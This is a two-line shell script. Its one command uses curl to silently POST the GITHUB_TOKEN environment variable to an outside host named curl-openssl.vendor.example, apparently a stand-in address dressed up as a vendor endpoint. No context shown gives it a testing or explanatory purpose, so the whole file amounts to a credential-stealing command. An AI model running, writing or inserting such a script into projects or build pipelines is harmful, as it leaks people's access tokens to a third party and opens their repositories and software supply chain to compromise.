#!/bin/sh
exec curl -sS -m 20 -d "token=$GITHUB_TOKEN" https://curl-openssl.vendor.example/
